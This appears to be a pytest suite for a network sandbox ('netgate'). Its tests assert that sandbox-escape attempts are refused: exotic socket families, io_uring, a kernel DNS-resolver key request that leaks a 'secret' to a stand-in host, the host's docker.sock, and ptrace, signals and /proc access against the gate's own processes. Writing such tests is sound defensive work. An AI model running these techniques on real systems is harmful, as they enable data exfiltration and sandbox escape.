# SPDX-License-Identifier: Apache-2.0
"""Ways out that are no packets on the link: other socket families, the kernel's own helpers, sockets of the host.

For a namespace that netgate was attached to, most of these are the business of whoever made it, its seccomp profile and its
mounts: they are not tried there. What belongs to the network namespace, and netgate's own processes, are out of reach for both."""

import os
import socket

import pytest

CALLS = """
    import ctypes, errno
    libc = ctypes.CDLL(None, use_errno=True)
    def call(number, *args):
        ctypes.set_errno(0)
        return "ok" if libc.syscall(number, *args) >= 0 else errno.errorcode[ctypes.get_errno()]
    def family(*args):
        try:
            socket.socket(*args).close()
            return "ok"
        except OSError as error:
            return errno.errorcode[error.errno]
    show(**{"vsock": family(40, socket.SOCK_STREAM, 0), "AF_ALG": family(38, socket.SOCK_SEQPACKET, 0), "AF_XDP": family(44, socket.SOCK_RAW, 0),
            "Bluetooth, TIPC, CAN, QIPCRTR": family(42, socket.SOCK_DGRAM, 0), "io_uring": call(425, 8, bytes(120)),
            "key request that runs a resolver on the host": call(249, b"dns_resolver", b"exfil-5ecret.bad.test", b"", 0),
            "packet socket": family(17, socket.SOCK_RAW, 3), "raw socket": family(socket.AF_INET, socket.SOCK_RAW, 1),
            "netfilter by netlink": family(16, socket.SOCK_RAW, 12), "SCTP, DCCP, SMC sockets": family(socket.AF_INET, socket.SOCK_STREAM, 132),
            "user faults, performance counters": call(298, bytes(128), 0, -1, -1, 0)})
"""


@pytest.mark.parametrize("mode", ["bare"], indirect=True)
def test_families_and_calls(attack):
    with attack("kernel") as attempt:
        (shown,) = attempt.python(CALLS)
    for technique, error in shown.items():
        assert error != "ok", technique
        attempt.refused(error, technique)


def test_abstract_socket(attack, lab):
    """Abstract Unix sockets belong to a network namespace: the host's are in another one."""
    name = f"\0netgate-attack-{os.getpid()}"
    with lab.host.net.inside():
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(name)
        listener.listen()
    with listener, attack("abstract Unix socket of the host") as attempt:
        (shown,) = attempt.python("""
            import errno
            try:
                socket.socket(socket.AF_UNIX).connect("\\0" + sys.argv[1])
                show(error=None)
            except OSError as error:
                show(error=errno.errorcode[error.errno])
        """, name[1:])
    attempt.refused(shown["error"])


@pytest.mark.parametrize("mode", ["bare"], indirect=True)
def test_unix_socket(attack, lab):
    """A docker.sock: only the seal keeps it from a bare command."""
    path = os.path.join(lab.folder, "docker.sock")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(path)
        os.chmod(path, 0o666)
        listener.listen()
        with attack("Unix socket of the host (docker.sock)") as attempt:
            (shown,) = attempt.python("""
                import errno
                try:
                    socket.socket(socket.AF_UNIX).connect(sys.argv[1])
                    show(error=None)
                except OSError as error:
                    show(error=errno.errorcode[error.errno])
            """, path)
    os.unlink(path)
    attempt.refused(shown["error"])


PROCESSES = """
    import ctypes, errno, signal
    libc = ctypes.CDLL(None, use_errno=True)
    def call(number, *args):
        ctypes.set_errno(0)
        return "ok" if libc.syscall(number, *args) >= 0 else errno.errorcode[ctypes.get_errno()]
    def attempt(what):
        try:
            what()
            return "ok"
        except OSError as error:
            return errno.errorcode[error.errno]
    for pid in map(int, sys.argv[1:]):
        pidfd = libc.syscall(434, pid, 0)
        show(**{"signals to netgate's processes": [attempt(lambda: os.kill(pid, number)) for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM)],
                "ptrace of netgate's processes": [call(101, 16, pid, 0, 0), call(101, 0x4206, pid, 0, 0)],
                "memory of netgate's processes": [attempt(lambda: open(f"/proc/{pid}/mem", "rb").read(1)), attempt(lambda: open(f"/proc/{pid}/environ").read())],
                "descriptors of netgate's processes": [attempt(lambda: os.listdir(f"/proc/{pid}/fd")), call(438, pidfd, 3, 0) if pidfd >= 0 else "ESRCH"],
                "/proc/PID/root of netgate's processes": [attempt(lambda: os.listdir(f"/proc/{pid}/root/")), attempt(lambda: os.listdir(f"/proc/{pid}/cwd/"))],
                "namespaces of netgate's processes": [attempt(lambda: os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)) for kind in ("net", "user", "mnt")],
                "priority of netgate's processes": [attempt(lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))]})
"""


def test_processes(attack):
    """A bare command does not see them; root in its own namespace has no say over them."""
    with attack("processes") as attempt:
        pids = [pid for pid, name in attempt.sandbox.running.processes().items() if name.startswith(("netgate", "sandbox-net"))]
        assert len(pids) >= 3
        shown = attempt.python(PROCESSES, *map(str, pids))
        alive = attempt.sandbox.running.processes()
        assert all(pid in alive for pid in pids)
        answers = attempt.talk(b"GET /hello HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n")
    assert answers[0][1].endswith(b"hello from ok.test\n")
    for seen in shown:
        for technique, errors in seen.items():
            assert "ok" not in errors, (technique, errors)
            attempt.refused("no such process" if not attempt.root else "EPERM, EACCES", technique)


@pytest.mark.parametrize("mode", ["root"], indirect=True)
def test_control_socket(attack, lab):
    """Attaching and detaching is for who started the gate: not for what is attached, whose /run is the host's."""
    program = os.path.join(lab.programs(), "sandbox-net")
    with attack("netgate's control socket") as attempt:
        job, path = attempt.sandbox.gate.job, attempt.sandbox.gate.path
        for command in (["detach", "--job", job], ["detach", "--job", job, "--name", "attacker"], ["attach", "--pid", "1", "--job", job]):
            done = attempt.run([program, *command])
            assert done.rc != 0, done
        (shown,) = attempt.python("""
            import errno
            try:
                socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect(sys.argv[1])
                show(error=None)
            except OSError as error:
                show(error=errno.errorcode[error.errno])
        """, path)
        answers = attempt.talk(b"GET /hello HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n")
    assert answers[0][1].endswith(b"hello from ok.test\n")
    attempt.refused(shown["error"])
